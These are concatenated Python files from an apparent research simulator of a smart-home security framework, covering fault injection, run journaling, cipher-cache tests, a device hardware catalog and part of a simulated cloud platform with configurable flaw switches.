        """Feed actor-polled (or derived) event dicts through the bus.

        Posts the whole batch, then pumps once: same FIFO dispatch
        order as per-event ``emit`` at a fraction of the per-record
        cost (this path carries every derived event of a journaled
        fleet run)."""
        for event in events:
            event = dict(event)
            self.bus.post(event.pop("t"), event)
        self.bus.pump()
        if self.journal is not None:
            self.journal.flush()

    def epoch_boundary(self, epoch: int, until: float,
                       on_epoch: Optional[Callable[[Optional[int], int],
                                                   None]] = None,
                       home: Optional[int] = None) -> None:
        """Record an epoch boundary, make the journal durable up to it,
        and fire the caller's ``on_epoch(home, epoch)`` hook — the
        cooperative-interruption seam (the server raises from it)."""
        payload: Dict[str, Any] = {"epoch": epoch, "until": until}
        if home is not None:
            payload["home"] = home
        self.emit("epoch", **payload)
        if self.journal is not None:
            self.journal.sync()
        if on_epoch is not None:
            on_epoch(home, epoch)

    # -- run envelope -------------------------------------------------------
    def open(self) -> None:
        self.emit("run-start", version=JOURNAL_VERSION, engine=self.engine,
                  workers=self.workers, spec=self.spec.to_dict(),
                  spec_hash=self.spec.spec_hash())

    def close(self, result: ScenarioResult) -> None:
        """Normal completion: the run-end envelope record."""
        self.emit("run-end", homes=len(result.homes),
                  alerts=len(result.alerts),
                  infected=len(result.infected))
        self._ended = True

    def abort(self, reason: str) -> None:
        """Interrupted run: the well-formed truncation marker."""
        if self.journal is not None and not self._ended:
            self.journal.mark_truncated(reason)
        self._ended = True

    def release(self) -> None:
        """Close the journal handle if this supervisor opened it."""
        if self._owns_journal and self.journal is not None:
            self.journal.close()

    # -- the journal subscriber --------------------------------------------
    def _record(self, topic: str, data: Dict[str, Any]) -> None:
        if topic == "alert":
            self.alert_seq += 1
            data = {"n": self.alert_seq, **data}
        if self.journal is not None:
            self.journal.append(topic, **data)
