"""Service-layer security functions (paper §IV-C)."""

from repro.security.service.api_guard import ApiGuard
from repro.security.service.appverify import ApplicationVerifier
from repro.security.service.analytics import SecurityAnalytics

__all__ = ["ApiGuard", "ApplicationVerifier", "SecurityAnalytics"]
