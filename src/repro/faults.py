"""Deterministic, seeded fault injection across the stack.

XLF's resilience claim — cross-layer correlation keeps detecting even
when any single layer's signal degrades — is only measurable on a
substrate that can *fail*.  This module is the failure side of the
declarative scenario engine:

* :class:`FaultSpec` — one scheduled fault as data (registry name,
  target home, injection time, duration, params), JSON round-trippable
  with the same strict ``to_dict``/``from_dict`` discipline as
  :class:`~repro.scenarios.spec.AttackSpec`.
* :class:`FaultRegistry` — decorator registration of fault kinds, each
  declaring which XLF layers its damage ``degrades``.
* :class:`FaultInjector` — per-home executor: schedules injections and
  recoveries on the home's simulator, draws any unspecified targets
  from the home's seeded ``"faults"`` RNG stream (bit-reproducible, and
  the stream is namespaced so adding faults never perturbs other
  components' draws), emits ``faults.injected`` / ``faults.recovered``
  telemetry plus per-layer degradation gauges, and marks degraded
  layers stale on the :class:`~repro.core.bus.CoreBus` so the
  correlator can weight the remaining layers.

Shipped fault kinds: link flaps and packet-loss bursts (network),
device crash/reboot with volatile-state loss (device), cloud API
outages and WAN latency spikes (service), and gateway restarts with
NAT-table loss (network).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Dict, List, Optional, Set, Tuple, Type

from repro.core.signals import Layer
from repro import telemetry as _telemetry

if TYPE_CHECKING:
    from repro.core.framework import XLF
    from repro.network.node import Link
    from repro.scenarios.smarthome import SmartHome


class FaultError(ValueError):
    """Raised for malformed fault specs and fault-registry misuse."""


# ---------------------------------------------------------------------------
# Spec dataclass
# ---------------------------------------------------------------------------

_SPEC_KEYS = {"fault", "home", "at", "duration_s", "params"}


@dataclass
class FaultSpec:
    """One scheduled fault: registry name, target home, window, params."""

    fault: str
    home: int = 0
    at: float = 0.0                       # seconds after warmup
    duration_s: float = 30.0              # injected -> recovered window
    params: Dict[str, Any] = field(default_factory=dict)

    def to_dict(self) -> Dict[str, Any]:
        out: Dict[str, Any] = {"fault": self.fault, "home": self.home,
                               "at": self.at, "duration_s": self.duration_s}
        if self.params:
            out["params"] = dict(self.params)
        return out

    @staticmethod
    def from_dict(data: Dict[str, Any]) -> "FaultSpec":
        unknown = set(data) - _SPEC_KEYS
        if unknown:
            raise FaultError(f"unknown fault keys {sorted(unknown)}; "
                             f"valid: {sorted(_SPEC_KEYS)}")
        if "fault" not in data:
            raise FaultError("fault entry missing 'fault' (the registry name)")
        return FaultSpec(
            fault=data["fault"],
            home=int(data.get("home", 0)),
            at=float(data.get("at", 0.0)),
            duration_s=float(data.get("duration_s", 30.0)),
            params=dict(data.get("params", {})),
        )


# ---------------------------------------------------------------------------
# Registry
# ---------------------------------------------------------------------------

class FaultRegistry:
    """Name-keyed registry of :class:`Fault` classes.

    Mirrors :class:`~repro.scenarios.spec.AttackRegistry`: registration
    is a class decorator that validates the metadata, lookups are by the
    fault's stable kebab-case name, and iteration is alphabetical.
    """

    def __init__(self) -> None:
        self._classes: Dict[str, Type["Fault"]] = {}

    def register(self, cls: Type["Fault"]) -> Type["Fault"]:
        name = getattr(cls, "name", "")
        if not name or name == "abstract-fault":
            raise FaultError(f"{cls.__name__} declares no fault name")
        degrades = getattr(cls, "degrades", ())
        if not degrades or not all(isinstance(l, Layer) for l in degrades):
            raise FaultError(f"{cls.__name__} must declare the Layer(s) it "
                             f"degrades")
        existing = self._classes.get(name)
        if existing is not None and existing is not cls:
            raise FaultError(f"fault name {name!r} already registered by "
                             f"{existing.__name__}")
        self._classes[name] = cls
        return cls

    def get(self, name: str) -> Type["Fault"]:
        try:
            return self._classes[name]
        except KeyError:
            raise FaultError(
                f"unknown fault {name!r}; registered: "
                f"{', '.join(self.names()) or '(none)'}") from None

    def create(self, spec: FaultSpec, injector: "FaultInjector") -> "Fault":
        cls = self.get(spec.fault)
        return cls(injector, spec.params)

    def ordered(self) -> List[Type["Fault"]]:
        return [self._classes[name] for name in sorted(self._classes)]

    def names(self) -> List[str]:
        return [cls.name for cls in self.ordered()]

    def __contains__(self, name: str) -> bool:
        return name in self._classes

    def __len__(self) -> int:
        return len(self._classes)


FAULTS = FaultRegistry()
register_fault = FAULTS.register


# ---------------------------------------------------------------------------
# Fault kinds
# ---------------------------------------------------------------------------

class Fault:
    """One injectable fault: flips substrate state on :meth:`inject` and
    restores it on :meth:`recover`.

    Subclasses declare ``name``, the ``degrades`` layers (whose signal
    sources the damage silences), and the allowed ``PARAMS`` keys.
    Construction happens at schedule time, so any seeded target draws
    land in a deterministic order (spec order) regardless of when the
    injections fire.
    """

    name: str = "abstract-fault"
    degrades: Tuple[Layer, ...] = ()
    description: str = ""
    PARAMS: Tuple[str, ...] = ()
    # Faults that cut the gateway off from the vendor cloud trigger the
    # framework's home-alone posture (gateway-local autonomy) while
    # they last, on top of the usual stale-layer marking.
    isolates_cloud: bool = False

    def __init__(self, injector: "FaultInjector", params: Dict[str, Any]):
        self.validate_params(params)
        self.injector = injector
        self.home = injector.home
        self.params = params

    @classmethod
    def validate_params(cls, params: Dict[str, Any]) -> None:
        unknown = set(params) - set(cls.PARAMS)
        if unknown:
            raise FaultError(
                f"unknown params {sorted(unknown)} for fault {cls.name!r}; "
                f"valid: {sorted(cls.PARAMS) or '(none)'}")

    def target(self) -> str:
        """Human-readable description of what the fault hits."""
        return ""

    def inject(self) -> None:
        raise NotImplementedError

    def recover(self) -> None:
        raise NotImplementedError


class _LinkFault(Fault):
    """Shared target resolution for link-scoped faults."""

    PARAMS = ("link",)

    def __init__(self, injector: "FaultInjector", params: Dict[str, Any]):
        super().__init__(injector, params)
        self.link = self._resolve_link(params.get("link"))

    def _resolve_link(self, name: Optional[str]) -> "Link":
        links = sorted(self.home.all_lan_links, key=lambda l: l.name)
        if not links:
            raise FaultError(f"{self.name}: home has no LAN links")
        if name is None:
            return self.injector.rng.choice(links)
        for link in links:
            if link.name in (name, f"lan-{name}"):
                return link
        raise FaultError(f"{self.name}: no link named {name!r}; have "
                         f"{[l.name for l in links]}")

    def target(self) -> str:
        return self.link.name


@register_fault
class LinkFlapFault(_LinkFault):
    """The LAN medium goes dark: nothing is carried until recovery."""

    name = "link-flap"
    degrades = (Layer.NETWORK,)
    description = "take a LAN link down; all traffic on it is lost"

    def inject(self) -> None:
        self.link.up = False

    def recover(self) -> None:
        self.link.up = True


@register_fault
class PacketLossFault(_LinkFault):
    """A loss burst: the link's loss rate jumps for the window."""

    name = "packet-loss"
    degrades = (Layer.NETWORK,)
    description = "raise a LAN link's loss rate for the fault window"
    PARAMS = ("link", "loss_rate")

    def __init__(self, injector: "FaultInjector", params: Dict[str, Any]):
        super().__init__(injector, params)
        self.loss_rate = float(params.get("loss_rate", 0.5))
        if not 0.0 <= self.loss_rate < 1.0:
            raise FaultError(f"{self.name}: loss_rate must be in [0, 1), "
                             f"got {self.loss_rate}")
        self._saved: Optional[float] = None

    def inject(self) -> None:
        self._saved = self.link.loss_rate
        self.link.loss_rate = max(self.link.loss_rate, self.loss_rate)

    def recover(self) -> None:
        if self._saved is not None:
            self.link.loss_rate = self._saved
            self._saved = None


@register_fault
class DeviceCrashFault(Fault):
    """Power-fail a device; recovery is a reboot with volatile-state loss."""

    name = "device-crash"
    degrades = (Layer.DEVICE,)
    description = "crash a device (interfaces down, telemetry loop dead, " \
                  "volatile state lost); recovery reboots it"
    PARAMS = ("device",)

    def __init__(self, injector: "FaultInjector", params: Dict[str, Any]):
        super().__init__(injector, params)
        name = params.get("device")
        devices = self.home.devices
        if not devices:
            raise FaultError(f"{self.name}: home has no devices")
        if name is None:
            self.device = self.injector.rng.choice(devices)
        else:
            try:
                self.device = self.home.device(name)
            except KeyError as exc:
                raise FaultError(f"{self.name}: {exc}") from None

    def target(self) -> str:
        return self.device.name

    def inject(self) -> None:
        self.device.crash()

    def recover(self) -> None:
        self.device.reboot()


@register_fault
class CloudOutageFault(Fault):
    """The vendor cloud stops answering: device ingest drops on the
    floor and every REST call returns 503 until recovery."""

    name = "cloud-outage"
    degrades = (Layer.SERVICE,)
    description = "cloud ingest drops packets and the REST API serves 503"
    isolates_cloud = True

    def inject(self) -> None:
        self.home.cloud.available = False
        self.home.cloud.api.available = False

    def recover(self) -> None:
        self.home.cloud.available = True
        self.home.cloud.api.available = True


@register_fault
class CloudLatencyFault(Fault):
    """A WAN latency spike: every backbone transmission gains a fixed
    extra delay, stretching device->cloud paths."""

    name = "cloud-latency"
    degrades = (Layer.SERVICE,)
    description = "add fixed extra latency to every WAN backbone packet"
    PARAMS = ("extra_latency_s",)

    def __init__(self, injector: "FaultInjector", params: Dict[str, Any]):
        super().__init__(injector, params)
        self.extra_latency_s = float(params.get("extra_latency_s", 0.5))
        if self.extra_latency_s <= 0:
            raise FaultError(f"{self.name}: extra_latency_s must be > 0")

    def target(self) -> str:
        return self.home.internet.backbone.name

    def inject(self) -> None:
        self.home.internet.backbone.extra_latency_s += self.extra_latency_s

    def recover(self) -> None:
        self.home.internet.backbone.extra_latency_s -= self.extra_latency_s


@register_fault
class GatewayRestartFault(Fault):
    """The gateway power-cycles: all interfaces drop and the NAT table
    (volatile state) is lost; recovery brings the interfaces back up."""

    name = "gateway-restart"
    degrades = (Layer.NETWORK,)
    description = "gateway interfaces down + NAT table flushed; " \
                  "recovery brings interfaces back up"

    def target(self) -> str:
        return self.home.gateway.name

    def inject(self) -> None:
        self.home.gateway.restart()

    def recover(self) -> None:
        self.home.gateway.complete_restart()


# ---------------------------------------------------------------------------
# Events and the injector
# ---------------------------------------------------------------------------

@dataclass
class FaultEvent:
    """Plain-data record of one injection (and, if reached, recovery)."""

    index: int                       # position in the spec's fault list
    fault: str
    home: int
    target: str
    injected_at: float
    recovered_at: Optional[float] = None


class FaultInjector:
    """Schedules one home's fault specs on its simulator.

    Target draws come from the home's seeded ``"faults"`` RNG stream and
    happen at schedule time in spec order, so runs are bit-reproducible
    and identical across serial and forked-parallel execution.  When an
    ``xlf`` host is present, injected faults mark their degraded layers
    stale on the CoreBus (ref-counted) until recovery.
    """

    def __init__(self, home: "SmartHome", xlf: Optional["XLF"] = None,
                 home_index: int = 0):
        self.home = home
        self.xlf = xlf
        self.home_index = home_index
        self.sim = home.sim
        self.rng = home.sim.rng.stream("faults")
        self.events: List[FaultEvent] = []
        self._degraded: Dict[Layer, int] = {}

    def schedule(self, index: int, spec: FaultSpec, horizon_s: float) -> None:
        """Arm one fault: inject at ``spec.at`` (seconds after now) and
        recover ``spec.duration_s`` later, when inside the horizon."""
        fault = FAULTS.create(spec, self)
        event = FaultEvent(index=index, fault=spec.fault,
                           home=self.home_index, target=fault.target(),
                           injected_at=0.0)
        at = max(spec.at, 0.0)
        if at >= horizon_s:
            return                     # never injected within this run

        def _inject() -> None:
            event.injected_at = self.sim.now
            fault.inject()
            self.events.append(event)
            self._mark(fault, stale=True)
            if fault.isolates_cloud and self.xlf is not None:
                self.xlf.enter_home_alone()
            if _telemetry.ENABLED:
                _telemetry.registry().counter(
                    "faults.injected", fault=fault.name).inc()

        def _recover() -> None:
            event.recovered_at = self.sim.now
            fault.recover()
            self._mark(fault, stale=False)
            if fault.isolates_cloud and self.xlf is not None:
                self.xlf.exit_home_alone()
            if _telemetry.ENABLED:
                _telemetry.registry().counter(
                    "faults.recovered", fault=fault.name).inc()

        if at <= 0.0:
            _inject()
        else:
            self.sim.call_in(at, _inject)
        if at + spec.duration_s < horizon_s:
            self.sim.call_in(at + spec.duration_s, _recover)

    def degraded_layers(self) -> Set[Layer]:
        """Layers with at least one active fault right now."""
        return set(self._degraded)

    def _mark(self, fault: Fault, stale: bool) -> None:
        for layer in fault.degrades:
            count = self._degraded.get(layer, 0) + (1 if stale else -1)
            if count > 0:
                self._degraded[layer] = count
            else:
                self._degraded.pop(layer, None)
                count = 0
            if _telemetry.ENABLED:
                _telemetry.registry().gauge(
                    "faults.degraded", layer=layer.value).set(float(count))
            if self.xlf is not None:
                if stale:
                    self.xlf.bus.mark_layer_stale(layer)
                else:
                    self.xlf.bus.mark_layer_fresh(layer)
