"""Tests for the process-wide cipher instance cache."""

import pytest

from repro.crypto import get_cached_cipher, get_cipher
from repro.crypto.base import CryptoError
from repro.crypto.registry import clear_cipher_cache


@pytest.fixture(autouse=True)
def fresh_cache():
    clear_cipher_cache()
    yield
    clear_cipher_cache()


def test_same_key_returns_same_instance():
    key = bytes(range(10))
    assert get_cached_cipher("PRESENT", key) is get_cached_cipher("PRESENT", key)


def test_distinct_keys_get_distinct_instances():
    a = get_cached_cipher("PRESENT", bytes(10))
    b = get_cached_cipher("PRESENT", bytes(range(10)))
    assert a is not b


def test_cached_matches_uncached_output():
    key = bytes(range(16))
    block = bytes(range(8, 16))
    cached = get_cached_cipher("TEA", key)
    plain = get_cipher("TEA", key)
    assert cached.encrypt_block(block) == plain.encrypt_block(block)
    assert cached.decrypt_block(cached.encrypt_block(block)) == block


def test_alias_and_case_share_one_entry():
    key = bytes(range(16))
    assert get_cached_cipher("HIGHT", key) is get_cached_cipher("height", key)


def test_default_key_is_bench_key():
    cached = get_cached_cipher("AES")
    assert cached.key == bytes(range(16))


def test_unknown_cipher_still_raises():
    with pytest.raises(CryptoError):
        get_cached_cipher("enigma")


def test_clear_cache_drops_instances():
    key = bytes(range(10))
    first = get_cached_cipher("PRESENT", key)
    clear_cipher_cache()
    assert get_cached_cipher("PRESENT", key) is not first
