"""The Table I device catalog.

Every row of the paper's Table I ("Various components in the device
layer of a typical home network system") as a :class:`DeviceProfile`,
with the prose fields normalised into numbers the hardware and energy
models can consume.  "Computation, storage, and power limit the
security functions that can be implemented on the device" — the
``device_class`` property encodes that gradient and drives which
ciphers/functions XLF deploys per device.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Dict, List, Optional, Tuple


class DeviceClass(Enum):
    """Capability tiers derived from Table I's spread."""

    TAG = "tag"                  # RFID tags: no general-purpose CPU
    MICROCONTROLLER = "mcu"      # kHz-MHz cores, KB of RAM
    EMBEDDED = "embedded"        # hundreds of MHz, MBs of RAM
    APPLICATION = "application"  # GHz-class application processors


@dataclass(frozen=True)
class DeviceProfile:
    """One Table I row, normalised."""

    name: str
    chipset: str
    core_freq_hz: float
    ram_bytes: Optional[int]          # None where the paper prints NA
    flash_bytes: Optional[int]
    power: str                        # "Battery" | "AC Power" | "NA"
    paper_row: Tuple[str, str, str, str, str, str]  # verbatim Table I strings

    @property
    def device_class(self) -> DeviceClass:
        if self.ram_bytes is not None and self.ram_bytes < 1024:
            return DeviceClass.TAG
        if self.core_freq_hz < 1e6:
            return DeviceClass.TAG
        if self.core_freq_hz < 100e6:
            return DeviceClass.MICROCONTROLLER
        if self.core_freq_hz < 1e9:
            return DeviceClass.EMBEDDED
        return DeviceClass.APPLICATION

    @property
    def battery_powered(self) -> bool:
        return self.power.lower() == "battery"

    def supports_payload(self, ram_needed: int) -> bool:
        """Whether a working set fits (unknown RAM treated as embedded-class)."""
        if self.ram_bytes is None:
            return ram_needed <= 64 * 1024 * 1024
        return ram_needed <= self.ram_bytes


def _kb(n: float) -> int:
    return int(n * 1024)


def _mb(n: float) -> int:
    return int(n * 1024 * 1024)


def _gb(n: float) -> int:
    return int(n * 1024 * 1024 * 1024)


# Every row of Table I.  paper_row preserves the printed strings
# (including "Ligh tbulb" style artifacts normalised to sane names but
# the data columns verbatim).
DEVICE_CATALOG: Dict[str, DeviceProfile] = {
    profile.name: profile
    for profile in [
        DeviceProfile(
            "HID Glass Tag Ultra (RFID)", "EM 4305", 134.2e3, 64, None, "NA",
            ("HID Glass Tag Ultra (RFID)", "EM 4305", "134.2 kHz", "512 bit RW", "NA", "NA"),
        ),
        DeviceProfile(
            "HID Piccolino Tag (RFID)", "I-Code SLIx, SLIx-S", 13.56e6, 256, None, "NA",
            ("HID Piccolino Tag (RFID)", "I-Code SLIx, SLIx-S", "13.56Mhz", "2048 bit RW", "NA", "NA"),
        ),
        DeviceProfile(
            "Sensor Devices", "Microcontroller", 16e6, _kb(8), _kb(64), "Battery",
            ("Sensor Devices", "Microcontroller", "4 - 32Mhz", "4 - 16KB", "16 - 128KB", "Battery"),
        ),
        DeviceProfile(
            "Google Chromecast", "ARM Cortex-A7", 1.2e9, _mb(512), _mb(256), "NA",
            ("Google Chromecast", "ARM Cortex-A7", "1.2Ghz", "512MB", "256MB", "NA"),
        ),
        DeviceProfile(
            "NETGEAR Router", "Broadcom BCM4709A", 1.0e9, _mb(256), _kb(128), "AC Power",
            ("NETGEAR Router", "Broadcom BCM4709A", "1.0Ghz", "256MB", "128KB", "AC Power"),
        ),
        DeviceProfile(
            "Gateway WISE-3310", "ARM Cortex-A9", 1.0e9, None, _gb(4), "AC Power",
            ("Gateway WISE-3310", "ARM Cortex-A9", "1.0Ghz", "NA", "4GB", "AC Power"),
        ),
        DeviceProfile(
            "REX2 Smart Meter", "Teridian 71M6531F SoC", 10e6, _kb(4), _kb(256), "Battery",
            ("REX2 Smart Meter", "Teridian 71M6531F SoC", "10Mhz", "4KB", "256KB", "Battery"),
        ),
        DeviceProfile(
            "Philips Hue Lightbulb", "TI CC2530 SoC", 32e6, _kb(8), _kb(256), "Battery",
            ("Philips Hue Ligh tbulb", "TI CC2530 SoC", "32Mhz", "8KB", "256KB", "Battery"),
        ),
        DeviceProfile(
            "Nest Smoke Detector", "ARM Cortex-M0", 48e6, _kb(16), _kb(128), "Battery",
            ("Nest Smoke Detector", "ARM Cortex-M0", "48Mhz", "16KB RAM", "128KB", "Battery"),
        ),
        DeviceProfile(
            "Nest Learning Thermostat", "ARM Cortex-A8", 800e6, _mb(512), _gb(2), "Battery",
            ("Nest Learning Thermostat", "ARM Cortex-A8", "800Mhz", "512MB RAM", "2GB", "Battery"),
        ),
        DeviceProfile(
            "Samsung Smart Cam", "GM812x SoC", 540e6, None, _gb(64), "AC Power",
            ("Samsung Smart Cam", "GM812x SoC", "Up to 540Mhz", "N/A", "Up to 64GB", "AC Power"),
        ),
        DeviceProfile(
            "Samsung Smart TV", "ARM-based Exynos SoC", 1.3e9, _gb(1), None, "AC Power",
            ("Samsung Smart TV", "ARM-based Exonys SoC", "1.3Ghz", "1GB", "N/A", "AC Power"),
        ),
        DeviceProfile(
            "OORT Bluetooth Smart Controller", "ARM Cortex-M0", 50e6, _kb(32), _kb(256), "Battery",
            ("OORT Bluetooth Smart Controller", "ARM Cortex-M0", "50Mhz", "16KB/32KB", "Up to 256KB", "Battery"),
        ),
        DeviceProfile(
            "Dacor Android Oven", "PowerVR SGX 540 graphics", 1e9, _mb(512), None, "AC Power",
            ("Dacor Android Oven", "PowerVR SGX 540 graphics", "1Ghz", "512MB", "NA", "AC Power"),
        ),
        DeviceProfile(
            "Fitbit Smart Wrist Band Flex", "ARM Cortex-M3", 32e6, _kb(16), _kb(128), "Battery",
            ("Fitbit Smart Wrist Band Flex", "ARM Cortex-M3", "32Mhz", "16KB", "128KB", "Battery"),
        ),
        DeviceProfile(
            "LG Watch Urbane 2nd Edition", "Snapdragon 400 chipset", 1.2e9, _mb(768), _gb(4), "Battery",
            ("LG Watch Urbane 2nd Edition", "Snapdragon 400 chipset", "1.2Ghz", "768MB", "4GB", "Battery"),
        ),
        DeviceProfile(
            "Samsung Watch Gear S2", "MSM8x26", 1.2e9, _mb(512), _gb(4), "Battery",
            ("Samsung Watch Gear S2", "MSM8x26", "1.2Ghz", "512MB RAM", "4GB", "Battery"),
        ),
        DeviceProfile(
            "Apple Watch", "S1", 520e6, _mb(512), _gb(8), "Battery",
            ("Apple Watch", "S1", "520Mhz", "512MB RAM", "8GB", "Battery"),
        ),
        DeviceProfile(
            "iPhone 6s Plus", "A9/64-bit/M9 coprocessor", 1.85e9, _gb(2), _gb(128), "Battery",
            ("iPhone 6s Plus", "A9/64-bit/M9 coprocessor", "1.85Ghz", "2GB", "Up to 128GB", "Battery"),
        ),
        DeviceProfile(
            "12.9-inch iPad Pro", "A9X/64-bit/M9 coprocessor", 1.85e9, _gb(4), _gb(256), "Battery",
            ("12.9-inch iPad Pro", "A9X/64-bit/M9 coprocessor", "1.85Ghz", "4GB", "Up to 256GB", "Battery"),
        ),
    ]
}


def get_profile(name: str) -> DeviceProfile:
    """Fetch a catalog profile by exact or case-insensitive name."""
    if name in DEVICE_CATALOG:
        return DEVICE_CATALOG[name]
    lowered = {k.lower(): v for k, v in DEVICE_CATALOG.items()}
    if name.lower() in lowered:
        return lowered[name.lower()]
    raise KeyError(f"unknown device profile {name!r}")


def table_i_rows() -> List[Tuple[str, str, str, str, str, str]]:
    """The paper's Table I, row for row."""
    return [p.paper_row for p in DEVICE_CATALOG.values()]


def profiles_by_class() -> Dict[DeviceClass, List[DeviceProfile]]:
    grouped: Dict[DeviceClass, List[DeviceProfile]] = {c: [] for c in DeviceClass}
    for profile in DEVICE_CATALOG.values():
        grouped[profile.device_class].append(profile)
    return grouped
