"""The cloud platform node: device handlers, app sandbox, APIs, OTA.

The SmartThings-style hub of the service layer.  Devices pair and
stream telemetry/events up; the platform maintains device shadows,
publishes to the event bus, runs SmartApps, enforces (or coarsens) the
capability model, answers REST calls, and pushes OTA campaigns.

Flaw switches reproduce the §II-C/§IV-C analyses:

* ``coarse_grants=True`` — apps get *all* capabilities of every device
  they touch (Fernandes et al. overprivilege);
* the event bus's ``verify_integrity`` / ``protect_sensitive``;
* ``compromised=True`` — the platform itself executes attacker logic
  (hidden services, tampered OTA), the §IV-C trust-the-cloud failure.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from repro.device.device import IoTDevice
from repro.network.node import Interface, Node
from repro.network.packet import Packet
from repro.service.api import ApiError, RestApi
from repro.service.capabilities import (
    Capability,
    device_capabilities,
    required_capability,
)
from repro.service.events import CloudEvent, EventBus, Subscription
from repro.service.identity import IdentityManager
from repro.service.oauth import OAuthServer, Scope
from repro.service.ota import OtaService
from repro.service.smartapps import CommandRequest, SmartApp
from repro.sim import Simulator
from repro import telemetry as _telemetry


@dataclass
class DeviceHandler:
    """The cloud's per-device record (a SmartThings 'device handler')."""

    device_id: str
    device_name: str               # ground-truth node name
    device_type: str
    shadow_state: str
    last_packet: Optional[Packet] = None
    telemetry: List[Tuple[float, str, dict]] = field(default_factory=list)
    events: int = 0


class CloudPlatform(Node):
    """The back-end cloud service."""

    DEVICE_PORT = IoTDevice.CLOUD_PORT  # 8883

    # Ingest admission control: generous enough that a whole home's
    # legitimate telemetry never trips it, small enough that a botnet
    # flood does.  Packets per one-second window.
    INGEST_RATE_LIMIT_PPS = 150

    def __init__(self, sim: Simulator, name: str = "cloud",
                 coarse_grants: bool = False,
                 verify_event_integrity: bool = True,
                 protect_sensitive_events: bool = True,
                 enforce_api_scopes: bool = True,
                 ingest_rate_limit_pps: Optional[int] = None):
        super().__init__(sim, name)
        self.oauth = OAuthServer(sim)
        self.identity = IdentityManager()
        self.bus = EventBus(protect_sensitive=protect_sensitive_events,
                            verify_integrity=verify_event_integrity)
        self.ota = OtaService()
        self.api = RestApi(self.oauth, enforce_scopes=enforce_api_scopes)
        self.coarse_grants = coarse_grants
        self.compromised = False
        # Fault injection: an unavailable platform drops device ingest
        # on the floor (repro.faults cloud-outage flips this).
        self.available = True
        # DDoS degradation (degrade, don't crash): ingest above the
        # per-second rate limit is dropped and flips the platform into
        # an overloaded state — the REST API answers 503 while it lasts
        # — which clears once a full window stays under the limit.
        self.ingest_rate_limit_pps = (ingest_rate_limit_pps
                                      if ingest_rate_limit_pps is not None
                                      else self.INGEST_RATE_LIMIT_PPS)
        self.overloaded = False
        self.rate_limited_packets = 0
        # Observations re-synced by gateways recovering from an outage
        # (home-alone mode's journal catch-up).
        self.resynced_observations = 0
        # Observers of overload transitions (bool: entered/cleared);
        # XLF wires the fault-aware correlator through this.
        self.overload_listeners: List[Any] = []
        self._ingest_window = -1
        self._ingest_window_count = 0
        self._handlers: Dict[str, DeviceHandler] = {}
        self._apps: Dict[str, SmartApp] = {}
        self._next_device_serial = 1
        self.denied_commands: List[CommandRequest] = []
        self.exfiltration_packets: List[Packet] = []
        self.bind(self.DEVICE_PORT, self._on_device_packet)
        self._register_routes()

    # -- device registry ---------------------------------------------------
    def register_device(self, device: IoTDevice) -> str:
        device_id = f"{device.spec.type_name}-{self._next_device_serial:03d}"
        self._next_device_serial += 1
        self._handlers[device_id] = DeviceHandler(
            device_id=device_id,
            device_name=device.name,
            device_type=device.spec.type_name,
            shadow_state=device.state,
        )
        return device_id

    def handler(self, device_id: str) -> DeviceHandler:
        if device_id not in self._handlers:
            raise KeyError(f"unknown device id {device_id!r}")
        return self._handlers[device_id]

    def device_ids(self) -> List[str]:
        return sorted(self._handlers)

    # -- outage recovery ----------------------------------------------------
    def receive_resync(self, count: int) -> None:
        """Accept a gateway's locally journaled observation backlog
        after an outage (home-alone recovery)."""
        self.resynced_observations += count
        if _telemetry.ENABLED:
            _telemetry.registry().counter(
                "cloud.resynced_observations").inc(count)

    # -- ingest admission control ------------------------------------------
    def _set_overloaded(self, overloaded: bool) -> None:
        self.overloaded = overloaded
        self.api.overloaded = overloaded
        for listener in list(self.overload_listeners):
            listener(overloaded)

    def _ingest_admitted(self) -> bool:
        """Fixed one-second-window rate limiter over device ingest.

        The first ``ingest_rate_limit_pps`` packets of each window are
        served; the excess is dropped and marks the platform
        overloaded.  Overload clears at the first packet after a window
        that stayed under the limit — degradation, then recovery, never
        a crash.
        """
        window = int(self.sim.now)
        if window != self._ingest_window:
            if (self.overloaded
                    and self._ingest_window_count <= self.ingest_rate_limit_pps):
                self._set_overloaded(False)
            self._ingest_window = window
            self._ingest_window_count = 0
        self._ingest_window_count += 1
        if self._ingest_window_count > self.ingest_rate_limit_pps:
            self.rate_limited_packets += 1
            if _telemetry.ENABLED:
                _telemetry.registry().counter("cloud.rate_limited").inc()
            if not self.overloaded:
                self._set_overloaded(True)
            return False
        return True

    # -- device traffic -------------------------------------------------------
    def _on_device_packet(self, packet: Packet, interface: Interface) -> None:
        if not self.available:
            if _telemetry.ENABLED:
                _telemetry.registry().counter("cloud.outage_drops").inc()
            return
        if not self._ingest_admitted():
            return
        payload = packet.payload
        if not isinstance(payload, dict):
            return
        device_id = payload.get("device_id")
        handler = self._handlers.get(device_id)
        if handler is None:
            return
        handler.last_packet = packet
        kind = payload.get("kind")
        if _telemetry.ENABLED:
            registry = _telemetry.registry()
            registry.counter("cloud.ingest", kind=kind or "unknown").inc()
            # End-to-end device -> cloud packet-path span in sim time.
            registry.record_span("cloud.deliver", packet.sent_at,
                                 self.sim.now, kind=kind or "unknown",
                                 device=handler.device_name)
        # Ground truth authenticity: did the claimed device really send it?
        authentic = packet.src_device == handler.device_name
        if kind == "telemetry":
            handler.telemetry.append(
                (self.sim.now, payload.get("state", ""),
                 dict(payload.get("readings", {})))
            )
            if payload.get("state") and authentic:
                handler.shadow_state = payload["state"]
            for attribute, value in payload.get("readings", {}).items():
                self._publish(device_id, attribute, value, authentic)
        elif kind == "event":
            handler.events += 1
            if payload.get("attribute") == "state" and authentic:
                handler.shadow_state = payload.get("value", handler.shadow_state)
            self._publish(device_id, payload.get("attribute", ""),
                          payload.get("value"), authentic)
        elif kind == "ota_result":
            campaign_id = payload.get("campaign")
            if campaign_id:
                self.ota.record_result(campaign_id, device_id,
                                       bool(payload.get("ok")))

    def _publish(self, device_id: str, attribute: str, value: Any,
                 authentic: bool) -> None:
        event = CloudEvent(
            device_id=device_id, attribute=attribute, value=value,
            timestamp=self.sim.now, source="device", authentic=authentic,
        )
        if _telemetry.ENABLED:
            _telemetry.registry().counter("cloud.events_published").inc()
        self.bus.publish(event)

    # -- SmartApps -----------------------------------------------------------
    def install_app(self, app: SmartApp) -> None:
        if app.name in self._apps:
            raise ValueError(f"app {app.name!r} already installed")
        self._apps[app.name] = app
        if self.coarse_grants:
            # Overprivilege: every capability of every device the app's
